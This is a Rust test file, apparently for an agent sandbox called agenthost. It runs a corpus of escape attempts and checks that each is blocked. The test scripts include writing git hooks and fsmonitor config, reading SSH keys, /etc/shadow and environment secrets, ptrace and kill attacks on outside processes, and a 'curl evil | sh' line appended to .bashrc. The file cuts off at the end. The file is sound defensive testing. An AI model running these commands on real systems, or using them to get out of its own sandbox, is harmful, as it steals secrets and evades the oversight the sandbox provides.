//! `agenthost sandbox`: the escape corpus and the positive cases.
//!
//! Every escape case runs a command as the sandboxed agent and then asserts *on disk* (or on
//! the other process) that the forbidden effect did not happen, not only that the command
//! failed. The fixture is a main repository `main/` with a linked worktree `wt/` (whose
//! `.git` is a pointer file), a directory `outside/`, a fake home with an SSH key and a
//! `.bashrc`, and the spec `task.md`:
//!
//! - Modify `src/app.py`; Create `src/new.py`, `NOTES.md`, `build/`; Do NOT modify `other/`.
//!
//! Each `escape!` case is a module of two tests: `sandboxed`, and
//! `control_without_the_sandbox`, which runs the same script with `--mode off` and requires
//! the same check to fail (a check that cannot fail proves nothing). The `works!` cases are
//! what must keep working inside.
//!
//! Tests skip (with a message) only where the kernel lacks Landlock ABI 6.
//!
//! Longer than our 600-line guide on purpose: a corpus of short cases that share one
//! fixture, read as a list.

use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::Command;

use tempfile::TempDir;

use super::{Run, Test};

const SECRET_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- not-a-real-key-7f3a";
const SECRET_ENV: &str = "s3cr3t-token-value-91c2";
const APP: &str = "print('app')\n";
const KEEP: &str = "keep me\n";

const SPEC: &str = "# Add a flag\n\n## What\nAdd a flag to the app.\n\n### Scope\n- Modify: `src/app.py`\n- Create: `src/new.py`, `NOTES.md`, `build/`\n- Do NOT modify `other/`\n";

/// Whether this kernel can run the corpus; prints why not.
fn supported() -> bool {
    let support = agenthost_sandbox::Support::probe();
    if support.landlock_abi < 6 || !support.seccomp {
        let message = format!(
            "this kernel lacks Landlock ABI 6 or seccomp (Landlock ABI {}): the sandbox cannot be enforced here",
            support.landlock_abi
        );
        // CI sets it: there, a skipped escape test would be a passed one.
        assert!(
            std::env::var_os("AGENTHOST_REQUIRE_SANDBOX").is_none(),
            "AGENTHOST_REQUIRE_SANDBOX is set and {message}"
        );
        eprintln!("SKIPPED: {message}");
        return false;
    }
    true
}

/// The fixture, before running.
fn fixture() -> Test {
    let test = Test::new()
        .file("main/src/app.py", APP)
        .file("main/src/other.py", "other\n")
        .file("main/README.md", "readme\n")
        .file("main/other/keep.txt", KEEP)
        .file("main/.gitignore", "target/\n")
        // A Rust project too, so that `target/` is scratch space made for the run.
        .file("main/Cargo.toml", "[package]\nname = \"app\"\n")
        .git_repo("main")
        .file("outside/victim.txt", KEEP)
        .file(".test-home/.ssh/id_ed25519", SECRET_KEY)
        .file(".test-home/.bashrc", "# bashrc\n")
        .file(".test-home/other-repo/secret.txt", SECRET_KEY)
        .file("task.md", SPEC)
        .file("config.toml", "");
    let root = test.path().to_path_buf();
    let repo = git2::Repository::open(root.join("main")).expect("open main");
    repo.worktree("wt", &root.join("wt"), None)
        .expect("git worktree add");
    test
}

/// Printed first by every sandboxed script: proves the command ran (a case that passed
/// because the sandbox never started would prove nothing).
const RAN: &str = "__sandboxed_command_ran__\n";

fn ran((mut run, dir): (Run, TempDir)) -> (Run, TempDir) {
    assert!(
        run.stdout.starts_with(RAN),
        "the sandboxed command did not run:\n{}",
        run.transcript()
    );
    run.stdout = run.stdout[RAN.len()..].to_string();
    (run, dir)
}

/// Runs `script` with `sh -c` in the sandbox of `task.md`, rooted at the worktree.
fn sandboxed(test: Test, script: &str) -> (Run, TempDir) {
    sandboxed_in_mode(test, &[], script)
}

/// [`sandboxed`] with extra `sandbox` options (`--mode off` for a negative control).
fn sandboxed_in_mode(test: Test, options: &[&str], script: &str) -> (Run, TempDir) {
    let root = test.path().to_path_buf();
    let script = format!("echo {}; {script}", RAN.trim());
    ran(test
        .env("AGENTHOST_TEST_SECRET", SECRET_ENV)
        .env(
            "AGENTHOST_CONFIG",
            &root.join("config.toml").display().to_string(),
        )
        .arg("sandbox")
        .args(options)
        .arg("--spec")
        .arg(root.join("task.md").display().to_string())
        .arg("--root")
        .arg(root.join("wt").display().to_string())
        .args(["--", "sh", "-c", &script])
        .run_keep())
}

/// Runs `script` with the `tester` profile, which may connect to `port`.
fn sandboxed_with_port(test: Test, port: u16, script: &str) -> (Run, TempDir) {
    let config = format!("[agents.tester]\ncommand = [\"true\"]\nports = [{port}]\n");
    let root = test.path().to_path_buf();
    std::fs::write(root.join("config.toml"), config).expect("write config");
    let script = format!("echo {}; {script}", RAN.trim());
    ran(test
        .env("AGENTHOST_TEST_SECRET", SECRET_ENV)
        .env(
            "AGENTHOST_CONFIG",
            &root.join("config.toml").display().to_string(),
        )
        .args(["sandbox", "--profile", "tester", "--spec"])
        .arg(root.join("task.md").display().to_string())
        .arg("--root")
        .arg(root.join("wt").display().to_string())
        .args(["--", "sh", "-c", &script])
        .run_keep())
}

fn read(dir: &TempDir, relative: &str) -> String {
    std::fs::read_to_string(dir.path().join(relative)).unwrap_or_else(|e| panic!("{relative}: {e}"))
}

fn exists(dir: &TempDir, relative: &str) -> bool {
    dir.path().join(relative).symlink_metadata().is_ok()
}

fn assert_unchanged(dir: &TempDir, relative: &str, expected: &str) {
    assert_eq!(read(dir, relative), expected, "{relative} was changed");
}

fn assert_absent(dir: &TempDir, relative: &str) {
    assert!(!exists(dir, relative), "{relative} exists");
}

/// When an escape's negative control runs.
#[derive(Clone, Copy)]
enum Control {
    /// Everywhere: without the sandbox the script escapes for anyone.
    Always,
    /// As root only: as a normal user, file permissions or the kernel's settings stop the
    /// script without any sandbox.
    AsRoot,
    /// Never: the escape, if it worked, would hang the test (a ptrace attach stops
    /// agenthost). Only for such a case, and said at the case.
    Never,
}

impl Control {
    fn applies(self) -> bool {
        match self {
            Control::Always => true,
            Control::AsRoot => rustix::process::geteuid().is_root(),
            Control::Never => false,
        }
    }
}

/// One escape: a module with two tests. `sandboxed` runs the script in the sandbox and
/// checks the disk; `control_without_the_sandbox` runs it with `--mode off` and requires the
/// same check to fail, which proves the check can fail (a check that passes whatever
/// happened proves nothing).
macro_rules! escape {
    ($name:ident, $script:expr, |$dir:ident, $run:ident| $check:block) => {
        escape!($name, $script, control: Always, |$dir, $run| $check);
    };
    ($name:ident, $script:expr, control: $control:ident, |$dir:ident, $run:ident| $check:block) => {
        mod $name {
            #[allow(unused_imports)]
            use super::*;

            #[allow(unused_variables)]
            fn check($dir: TempDir, $run: Run) $check

            #[test]
            fn sandboxed() {
                if !supported() {
                    return;
                }
                let (run, dir) = super::sandboxed(fixture(), $script);
                check(dir, run);
            }

            #[test]
            fn control_without_the_sandbox() {
                if !Control::$control.applies() {
                    return;
                }
                let (run, dir) = sandboxed_in_mode(fixture(), &["--mode", "off"], $script);
                let transcript = run.transcript();
                let checked =
                    std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| check(dir, run)));
                assert!(
                    checked.is_err(),
                    "with the sandbox off the script did not escape, or the check did not see \
                     it: the check cannot fail\n{transcript}"
                );
            }
        }
    };
}

/// Something that must keep working in the sandbox: run the script, then check.
macro_rules! works {
    ($name:ident, $script:expr, |$dir:ident, $run:ident| $check:block) => {
        #[test]
        fn $name() {
            if !supported() {
                return;
            }
            let ($run, $dir) = sandboxed(fixture(), $script);
            let _ = &$run;
            $check
        }
    };
}

// --- Writes outside the scope --------------------------------------------------------------

escape!(
    write_outside_scope,
    "echo pwned > other/keep.txt",
    |dir, run| {
        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
        // Landlock (EACCES) or, first where it is on, the mount layer (EROFS).
        assert!(
            run.stderr.contains("Permission denied")
                || run.stderr.contains("Read-only file system"),
            "{}",
            run.stderr
        );
    }
);

escape!(
    append_outside_scope,
    "echo pwned >> other/keep.txt",
    |dir, _run| {
        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
    }
);

escape!(
    truncate_outside_scope,
    "truncate -s 0 other/keep.txt; : > README.md",
    |dir, _run| {
        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
        assert_unchanged(&dir, "wt/README.md", "readme\n");
    }
);

escape!(
    unlink_outside_scope,
    "rm -f other/keep.txt README.md",
    |dir, _run| {
        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
        assert_unchanged(&dir, "wt/README.md", "readme\n");
    }
);

escape!(
    unlink_modify_file_at_other_dir_level,
    "rm -rf other",
    |dir, _run| {
        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
    }
);

escape!(
    chmod_setuid_refused,
    "cp /bin/sh build/sh && chmod u+s build/sh; chmod g+s build/sh",
    |dir, _run| {
        let mode = std::fs::metadata(dir.path().join("wt/build/sh"))
            .expect("build/sh was copied")
            .permissions()
            .mode();
        assert_eq!(mode & 0o6000, 0, "setuid/setgid bit set: {mode:o}");
    }
);

escape!(
    create_in_directory_outside_scope,
    "echo x > other/new.txt; mkdir other/d; echo x > evil.txt",
    |dir, _run| {
        assert_absent(&dir, "wt/other/new.txt");
        assert_absent(&dir, "wt/other/d");
        assert_absent(&dir, "wt/evil.txt");
    }
);

escape!(
    create_directory_at_root,
    "mkdir newdir; mkdir -p a/b",
    |dir, _run| {
        assert_absent(&dir, "wt/newdir");
        assert_absent(&dir, "wt/a");
    }
);

escape!(
    rename_directory_at_root,
    "mv src src2; mv other other2",
    |dir, _run| {
        assert!(exists(&dir, "wt/src/app.py"));
        assert_absent(&dir, "wt/src2");
        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
    }
);

escape!(
    write_through_symlink_out_of_scope,
    "ln -s ../other/keep.txt build/link; echo pwned > build/link; ln -s ../../outside/victim.txt build/v; echo pwned > build/v",
    |dir, _run| {
        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
        assert_unchanged(&dir, "outside/victim.txt", KEEP);
    }
);

escape!(
    write_through_symlink_in_tmpdir,
    "ln -s \"$PWD/other/keep.txt\" \"$TMPDIR/l\"; echo pwned > \"$TMPDIR/l\"",
    |dir, _run| {
        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
    }
);

escape!(
    write_through_proc_root,
    "echo pwned > /proc/self/root\"$PWD\"/other/keep.txt",
    |dir, _run| {
        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
    }
);

escape!(
    hard_link_protected_file_into_scope,
    "ln other/keep.txt build/keep; ln README.md src/readme-link; ln other/keep.txt \"$TMPDIR/keep\" && echo pwned >> \"$TMPDIR/keep\"",
    |dir, _run| {
        assert_absent(&dir, "wt/build/keep");
        assert_absent(&dir, "wt/src/readme-link");
        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
    }
);

escape!(
    rename_protected_file_into_scope,
    "mv other/keep.txt build/keep.txt; mv README.md src/README.md",
    |dir, _run| {
        // The files stay where they are. Across the mount layer's mounts `mv` falls back to
        // copy and unlink, and may leave a copy in scope: the agent may read both files,
        // so that copy is no more than `cp` (which it may run) makes.
        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
        assert_unchanged(&dir, "wt/README.md", "readme\n");
    }
);

escape!(
    rename_scope_file_out_of_scope,
    "mv src/app.py other/app.py; mv src/app.py ../outside/app.py",
    |dir, _run| {
        assert_unchanged(&dir, "wt/src/app.py", APP);
        assert_absent(&dir, "wt/other/app.py");
        assert_absent(&dir, "outside/app.py");
    }
);

// --- .git ------------------------------------------------------------------------------------

escape!(
    replace_git_pointer_in_place,
    "echo 'gitdir: /tmp/evil' > .git",
    |dir, _run| {
        assert!(read(&dir, "wt/.git").starts_with("gitdir: "));
        assert!(read(&dir, "wt/.git").contains("main/.git/worktrees/wt"));
    }
);

escape!(
    replace_git_pointer_by_rename,
    "echo 'gitdir: /tmp/evil' > build/g; mv build/g .git; rm -f .git; mv .git build/",
    |dir, _run| {
        // The pointer stays. `mv .git build/` may leave a copy in `build/` (copy and
        // unlink across the mount layer's mounts; the unlink fails): a file the agent could
        // write there itself, in an ignored directory no git command enters.
        assert!(read(&dir, "wt/.git").contains("main/.git/worktrees/wt"));
    }
);

escape!(
    write_git_hooks,
    "mkdir -p ../main/.git/hooks; echo 'touch /tmp/owned' > ../main/.git/hooks/pre-commit; chmod +x ../main/.git/hooks/pre-commit",
    |dir, _run| {
        assert_absent(&dir, "main/.git/hooks/pre-commit");
    }
);

escape!(
    write_git_config,
    "printf '[core]\\n\\tfsmonitor = touch /tmp/owned\\n' >> ../main/.git/config; git config core.fsmonitor 'touch /tmp/owned'",
    |dir, _run| {
        assert!(!read(&dir, "main/.git/config").contains("fsmonitor"));
    }
);

escape!(
    write_worktree_git_dir,
    "echo 0000 > ../main/.git/worktrees/wt/HEAD; echo x > ../main/.git/worktrees/wt/index.lock; git commit --allow-empty -m x",
    |dir, _run| {
        assert!(read(&dir, "main/.git/worktrees/wt/HEAD").starts_with("ref: "));
        assert_absent(&dir, "main/.git/worktrees/wt/index.lock");
    }
);

escape!(
    write_main_repository_refs_and_checkout,
    "echo 0000 > ../main/.git/refs/heads/wt; echo pwned > ../main/README.md",
    |dir, _run| {
        assert_ne!(read(&dir, "main/.git/refs/heads/wt").trim(), "0000");
        assert_unchanged(&dir, "main/README.md", "readme\n");
    }
);

// --- Outside the worktree --------------------------------------------------------------------

escape!(
    write_outside_the_worktree,
    "echo pwned > ../outside/victim.txt; echo x > ../outside/new.txt; echo x > ../task.md",
    |dir, _run| {
        assert_unchanged(&dir, "outside/victim.txt", KEEP);
        assert_absent(&dir, "outside/new.txt");
        assert_unchanged(&dir, "task.md", SPEC);
    }
);

#[test]
fn write_tmp() {
    if !supported() {
        return;
    }
    let name = format!("/tmp/agenthost-escape-{}", std::process::id());
    let (_run, _dir) = sandboxed(
        fixture(),
        &format!("echo x > {name}; echo x > /dev/shm/agenthost-escape"),
    );
    assert!(!Path::new(&name).exists(), "{name} was created");
}

escape!(
    write_home_and_bashrc,
    "echo x > \"$HOME/evil\"; echo 'curl evil | sh' >> \"$HOME/.bashrc\"; mkdir \"$HOME/.config\"",
    |dir, _run| {
        assert_absent(&dir, ".test-home/evil");
        assert_absent(&dir, ".test-home/.config");
        assert_unchanged(&dir, ".test-home/.bashrc", "# bashrc\n");
    }
);

escape!(
    read_ssh_key,
    "cat \"$HOME/.ssh/id_ed25519\" > build/leak; cat \"$HOME/other-repo/secret.txt\" >> build/leak; cat \"$HOME/.ssh/id_ed25519\"",
    |dir, run| {
        assert!(!read(&dir, "wt/build/leak").contains("not-a-real-key"));
        assert!(!run.stdout.contains("not-a-real-key"));
    }
);

escape!(
    read_system_secrets_in_etc,
    // As root these are readable by their owner without any capability: only the sandbox
    // keeps them out (as a normal user, file permissions do as well).
    "for f in /etc/shadow /etc/gshadow /etc/sudoers /etc/ssh/ssh_host_*_key /etc/ssl/private/*; do cat \"$f\" >> build/leak 2>/dev/null && echo \"read $f\"; done; ls /etc/ssl/private >> build/leak; cat /etc/passwd > build/passwd",
    control: AsRoot,
    |dir, run| {
        assert!(!run.stdout.contains("read /etc"), "{}", run.stdout);
        assert_eq!(read(&dir, "wt/build/leak"), "");
        // What programs need from /etc stays readable.
        assert!(read(&dir, "wt/build/passwd").contains("root:"));
    }
);

escape!(
    read_secret_environment_variable,
    "env > build/env.txt; cat /proc/$PPID/environ > build/penv; tr '\\0' '\\n' < /proc/1/environ >> build/penv",
    |dir, run| {
        assert!(!read(&dir, "wt/build/env.txt").contains(SECRET_ENV));
        assert!(!read(&dir, "wt/build/penv").contains(SECRET_ENV));
        assert!(!run.stdout.contains(SECRET_ENV));
    }
);

escape!(
    mknod_and_mkfifo_outside_scope,
    "mknod other/null c 1 3; mkfifo other/fifo; mkfifo build/fifo; mknod build/null c 1 3",
    |dir, _run| {
        assert_absent(&dir, "wt/other/null");
        assert_absent(&dir, "wt/other/fifo");
        assert_absent(&dir, "wt/build/fifo");
        assert_absent(&dir, "wt/build/null");
    }
);

// --- Processes, sockets, kernel interfaces ---------------------------------------------------

/// A process outside the sandbox for the sandbox to attack; killed on drop.
struct Victim(std::process::Child);

impl Victim {
    fn start() -> Victim {
        Victim(
            Command::new("sleep")
                .arg("60")
                .spawn()
                .expect("spawn sleep"),
        )
    }
    fn pid(&self) -> u32 {
        self.0.id()
    }
    fn alive(&mut self) -> bool {
        self.0.try_wait().expect("try_wait").is_none()
    }
    fn tracer(&self) -> String {
        let status =
            std::fs::read_to_string(format!("/proc/{}/status", self.pid())).unwrap_or_default();
        status
            .lines()
            .find(|l| l.starts_with("TracerPid:"))
            .unwrap_or("")
            .to_string()
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn signal_a_process_outside() {
    if !supported() {
        return;
    }
    let mut victim = Victim::start();
    let (run, _dir) = sandboxed(
        fixture(),
        &format!(
            "kill -TERM {0}; kill -KILL {0}; kill -STOP {0}; echo done",
            victim.pid()
        ),
    );
    assert!(run.stdout.contains("done"), "{}", run.transcript());
    assert!(victim.alive(), "the sandbox killed a process outside it");
    let state = std::fs::read_to_string(format!("/proc/{}/stat", victim.pid())).unwrap_or_default();
    assert!(
        !state.contains(") T "),
        "the sandbox stopped a process outside it: {state}"
    );
}

#[test]
fn ptrace_a_process_outside() {
    if !supported() {
        return;
    }
    let mut victim = Victim::start();
    let script = format!(
        "python3 -c 'import ctypes,os; l=ctypes.CDLL(None,use_errno=True); r=l.ptrace(16,{0},0,0); print(\"ptrace\",r,os.strerror(ctypes.get_errno()))'; \
         python3 -c 'import ctypes; l=ctypes.CDLL(None,use_errno=True); print(\"vm\", l.syscall(310,{0},0,0,0,0,0))'",
        victim.pid()
    );
    let (run, _dir) = sandboxed(fixture(), &script);
    assert!(run.stdout.contains("ptrace -1"), "{}", run.transcript());
    assert!(run.stdout.contains("vm -1"), "{}", run.transcript());
    assert!(victim.alive());
    assert_eq!(victim.tracer(), "TracerPid:\t0");
}

#[test]
fn connect_to_unix_sockets_of_the_host() {
    if !supported() {
        return;
    }
    use std::os::linux::net::SocketAddrExt;
    let name = format!("agenthost-test-{}", std::process::id());
    let addr =
        std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("abstract addr");
    let abstract_listener = UnixListener::bind_addr(&addr).expect("bind abstract");
    abstract_listener
        .set_nonblocking(true)
        .expect("nonblocking");
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("host.sock");
    let path_listener = UnixListener::bind(&path).expect("bind path");
    path_listener.set_nonblocking(true).expect("nonblocking");

    let script = format!(
        "python3 -c '\nimport socket\nfor a in [\"\\0{name}\", \"{path}\"]:\n  try:\n    s=socket.socket(socket.AF_UNIX); s.connect(a); s.send(b\"hi\"); print(\"connected\")\n  except OSError as e: print(\"refused\", e)\na,b=socket.socketpair(); a.send(b\"x\"); print(\"pair\", b.recv(1))\n'",
        path = path.display()
    );
    let (run, _dir) = sandboxed(fixture(), &script);
    assert!(!run.stdout.contains("connected"), "{}", run.transcript());
    assert!(
        run.stdout.contains("pair b'x'"),
        "socketpair must work: {}",
        run.transcript()
    );
    assert!(
        abstract_listener.accept().is_err(),
        "the abstract socket got a connection"
    );
    assert!(
        path_listener.accept().is_err(),
        "the pathname socket got a connection"
    );
}

/// Connects to `port` on loopback from Python; prints `connected` or `refused`.
fn python_connect(port: u16) -> String {
    format!(
        "python3 -c '\nimport socket\ntry:\n  s=socket.create_connection((\"127.0.0.1\",{port}),timeout=2); s.send(b\"hi\"); print(\"connected {port}\")\nexcept OSError as e: print(\"refused {port}\", e)\n'"
    )
}

#[test]
fn tcp_connect_offline() {
    if !supported() {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let (run, _dir) = sandboxed(fixture(), &python_connect(port));
    assert!(
        run.stdout.contains(&format!("refused {port}")),
        "{}",
        run.transcript()
    );
    assert!(listener.accept().is_err(), "the listener got a connection");
}

#[test]
fn tcp_connect_only_to_granted_ports() {
    if !supported() {
        return;
    }
    let granted = TcpListener::bind("127.0.0.1:0").expect("bind");
    let denied = TcpListener::bind("127.0.0.1:0").expect("bind");
    granted.set_nonblocking(true).expect("nonblocking");
    denied.set_nonblocking(true).expect("nonblocking");
    let granted_port = granted.local_addr().expect("addr").port();
    let denied_port = denied.local_addr().expect("addr").port();
    let script = format!(
        "{}; {}",
        python_connect(denied_port),
        python_connect(granted_port)
    );
    let (run, _dir) = sandboxed_with_port(fixture(), granted_port, &script);
    assert!(
        run.stdout.contains(&format!("refused {denied_port}")),
        "{}",
        run.transcript()
    );
    assert!(denied.accept().is_err(), "the denied port got a connection");
    assert!(
        run.stdout.contains(&format!("connected {granted_port}")),
        "{}",
        run.transcript()
    );
    assert!(
        granted.accept().is_ok(),
        "the granted port got no connection"
    );
}

#[test]
fn bind_a_port() {
    if !supported() {
        return;
    }
    let script = "python3 -c '\nimport socket\ntry:\n  s=socket.socket(); s.bind((\"127.0.0.1\",0)); s.listen(); print(\"listening\", s.getsockname()[1])\nexcept OSError as e: print(\"refused\", e)\n'";
    let (run, _dir) = sandboxed_with_port(fixture(), 9, script);
    assert!(run.stdout.contains("refused"), "{}", run.transcript());
    assert!(!run.stdout.contains("listening"), "{}", run.transcript());
}

/// Runs a raw system call from Python and prints `NAME RESULT ERRNO-NAME`.
fn python_syscalls(calls: &[(&str, &str)]) -> String {
    let mut body = String::from(
        "import ctypes,errno\nl=ctypes.CDLL(None,use_errno=True)\nl.syscall.restype=ctypes.c_long\n",
    );
    for (name, args) in calls {
        body.push_str(&format!(
            "r=l.syscall({args}); print(\"{name}\", r, errno.errorcode.get(ctypes.get_errno(),\"0\"))\n"
        ));
    }
    format!("python3 -c '{body}'")
}

#[test]
fn kernel_interfaces_are_refused() {
    if !supported() {
        return;
    }
    // x86-64 numbers (the corpus runs where CI runs).
    let script = python_syscalls(&[
        ("io_uring_setup", "425, 8, ctypes.create_string_buffer(120)"),
        ("bpf", "321, 0, 0, 0"),
        ("keyctl", "250, 0, 0, 0, 0, 0"),
        ("add_key", "248, b\"user\", b\"k\", b\"v\", 1, -4"),
        ("unshare_user", "272, 0x10000000"),
        ("userfaultfd", "323, 0"),
        ("perf_event_open", "298, 0, 0, -1, -1, 0"),
        ("clone3", "435, 0, 0"),
        ("socket_packet", "41, 17, 3, 0"),
        ("socket_vsock", "41, 40, 1, 0"),
        ("tiocsti", "16, 0, 0x5412, ctypes.c_char_p(b\"x\")"),
    ]);
    let (run, _dir) = sandboxed(fixture(), &script);
    for name in [
        "io_uring_setup",
        "bpf",
        "keyctl",
        "add_key",
        "unshare_user",
        "userfaultfd",
        "perf_event_open",
        "socket_packet",
        "socket_vsock",
        "tiocsti",
    ] {
        assert!(
            run.stdout.contains(&format!("{name} -1 EPERM")),
            "{name} was not refused with EPERM:\n{}",
            run.transcript()
        );
    }
    assert!(
        run.stdout.contains("clone3 -1 ENOSYS"),
        "{}",
        run.transcript()
    );
}

escape!(
    user_namespace_via_unshare,
    "unshare -Ur touch build/userns-escape; echo rc=$?",
    // A normal user's namespaces may be off on the machine itself.
    control: AsRoot,
    |dir, run| {
        assert!(!run.stdout.contains("rc=0"), "{}", run.transcript());
        assert_absent(&dir, "wt/build/userns-escape");
    }
);

#[test]
fn setuid_binary_gains_nothing() {
    if !supported() {
        return;
    }
    let test = fixture();
    let tool = test.path().join("wt/suid-cat");
    std::fs::copy("/bin/cat", &tool).expect("copy cat");
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o4755)).expect("chmod");
    let (run, _dir) = sandboxed(test, "./suid-cat /proc/self/status");
    assert!(
        run.stdout.contains("CapEff:\t0000000000000000"),
        "{}",
        run.transcript()
    );
    assert!(
        run.stdout.contains("CapPrm:\t0000000000000000"),
        "{}",
        run.transcript()
    );
    assert!(
        run.stdout.contains("NoNewPrivs:\t1"),
        "{}",
        run.transcript()
    );
}

escape!(
    capabilities_are_dropped,
    "cat /proc/self/status",
    // A normal user holds no capabilities to drop.
    control: AsRoot,
    |_dir, run| {
        // Only a process holding CAP_SETPCAP (root) can empty the bounding set; for anyone
        // else it stays as inherited, and no_new_privs makes it unreachable.
        let mut sets = vec!["CapInh", "CapPrm", "CapEff", "CapAmb"];
        if rustix::process::geteuid().is_root() {
            sets.push("CapBnd");
        }
        for set in sets {
            assert!(
                run.stdout.contains(&format!("{set}:\t0000000000000000")),
                "{set}: {}",
                run.stdout
            );
        }
        assert!(run.stdout.contains("NoNewPrivs:\t1"));
        assert!(run.stdout.contains("Seccomp:\t2"));
    }
);

#[test]
fn inherited_descriptor_is_closed() {
    if !supported() {
        return;
    }
    let test = fixture();
    let root = test.path().to_path_buf();
    let home = root.join(".test-home");
    let status = Command::new("sh")
        .arg("-c")
        .arg("exec 7>>\"$1\"; exec \"$2\" sandbox --spec \"$3\" --root \"$4\" -- sh -c 'echo leaked >&7; ls /proc/self/fd'")
        .arg("sh")
        .arg(root.join("outside/victim.txt"))
        .arg(crate::binary())
        .arg(root.join("task.md"))
        .arg(root.join("wt"))
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", &home)
        .env("XDG_CONFIG_HOME", home.join("config"))
        .output()
        .expect("run");
    let fds = String::from_utf8_lossy(&status.stdout);
    assert!(
        !fds.lines().any(|l| l.trim() == "7"),
        "fd 7 reached the sandbox: {fds}"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("outside/victim.txt")).expect("read"),
        KEEP
    );
}

/// `agenthost sandbox OPTIONS` on the fixture at `root` running `sh -c SCRIPT`, started
/// through `env SIGNAL_OPTION` (how a shell would leave a signal's action: default or
/// ignored).
fn foreground_sandbox(root: &Path, signal_option: &str, options: &[&str], script: &str) -> Command {
    let mut command = Command::new("env");
    command
        .arg(signal_option)
        .arg(crate::binary())
        .arg("sandbox")
        .args(options)
        .arg("--spec")
        .arg(root.join("task.md"))
        .arg("--root")
        .arg(root.join("wt"))
        .args(["--", "sh", "-c", script])
        .env("HOME", root.join(".test-home"))
        .env("TMPDIR", root);
    command
}

/// The first line `child` printed (its stdout piped), and its stdout to read on from there.
fn first_line(
    child: &mut std::process::Child,
) -> (String, std::io::BufReader<std::process::ChildStdout>) {
    use std::io::BufRead as _;
    let mut stdout = std::io::BufReader::new(child.stdout.take().expect("stdout piped"));
    let mut line = String::new();
    stdout.read_line(&mut line).expect("read");
    (line, stdout)
}

/// Runs `script` in the sandbox through `env SIGNAL_OPTION` (how agenthost's SIGINT starts:
/// default or ignored), waits for its first line (`ready`), sends agenthost SIGINT as the
/// terminal does on Ctrl-C (the command leads a session of its own, so only agenthost
/// gets it), and returns the rest of the command's output and agenthost's exit code.
fn interrupted_after_ready(signal_option: &str, script: &str) -> (String, Option<i32>) {
    let test = fixture();
    let mut child = foreground_sandbox(test.path(), signal_option, &[], script)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    let (line, mut stdout) = first_line(&mut child);
    assert_eq!(line, "ready\n");
    // No waiting for agenthost to settle its handlers: they are in place before the command
    // starts, so a signal right after its first line must already be passed on.
    let pid = rustix::process::Pid::from_child(&child);
    rustix::process::kill_process(pid, rustix::process::Signal::INT).expect("SIGINT");
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut stdout, &mut rest).expect("read");
    (rest, child.wait().expect("wait").code())
}

#[test]
fn ctrl_c_reaches_the_command_which_ends_as_it_chooses() {
    if !supported() {
        return;
    }
    // As from an interactive shell: SIGINT at its default (a test runner started in the
    // background inherits it ignored, and an ignored signal is not forwarded).
    let (rest, code) = interrupted_after_ready(
        "--default-signal=INT",
        "trap 'echo interrupted; exit 7' INT; echo ready; sleep 30 & wait",
    );
    assert_eq!(rest, "interrupted\n");
    assert_eq!(code, Some(7), "the command's own exit code passes through");
}

#[test]
fn a_signal_agenthost_was_started_ignoring_is_not_forwarded() {
    if !supported() {
        return;
    }
    // As a shell starts a background job: SIGINT ignored.
    let (rest, code) =
        interrupted_after_ready("--ignore-signal=INT", "echo ready; sleep 1; echo done");
    assert_eq!(rest, "done\n");
    assert_eq!(code, Some(0));
}

/// `pid`'s state letter (`?` when it is gone).
fn process_state(pid: u32) -> char {
    crate::stat(pid.try_into().expect("pid")).map_or('?', |(state, _)| state)
}

/// Waits (up to ten seconds) until `pid`'s state letter satisfies `wanted`.
fn wait_for_state(pid: u32, wanted: impl Fn(char) -> bool) -> char {
    for _ in 0..1000 {
        let state = process_state(pid);
        if wanted(state) {
            return state;
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    process_state(pid)
}

#[test]
fn ctrl_z_stops_the_command_with_agenthost_and_fg_continues_both() {
    use std::io::Write as _;
    if !supported() {
        return;
    }
    let test = fixture();
    // As from an interactive shell: SIGTSTP at its default.
    let script = "echo $$; read line; echo \"got $line\"";
    let mut child = foreground_sandbox(test.path(), "--default-signal=TSTP", &[], script)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    let agenthost = child.id();
    let (line, mut stdout) = first_line(&mut child);
    let command: u32 = line.trim().parse().expect("the command's pid");

    let signal = |signal| {
        rustix::process::kill_process(rustix::process::Pid::from_child(&child), signal)
            .expect("signal agenthost");
    };
    signal(rustix::process::Signal::TSTP);
    assert_eq!(
        wait_for_state(agenthost, |s| s == 'T'),
        'T',
        "agenthost stops"
    );
    assert_eq!(
        wait_for_state(command, |s| s == 'T'),
        'T',
        "the command stops"
    );

    signal(rustix::process::Signal::CONT);
    assert_ne!(
        wait_for_state(agenthost, |s| s != 'T'),
        'T',
        "agenthost continues"
    );
    assert_ne!(
        wait_for_state(command, |s| s != 'T'),
        'T',
        "the command continues"
    );
    let mut stdin = child.stdin.take().expect("stdin");
    stdin.write_all(b"go\n").expect("write");
    drop(stdin);
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut stdout, &mut rest).expect("read");
    assert_eq!(rest, "got go\n");
    assert_eq!(child.wait().expect("wait").code(), Some(0));
}

/// A daemon the command starts in a session of its own (out of its process group) is
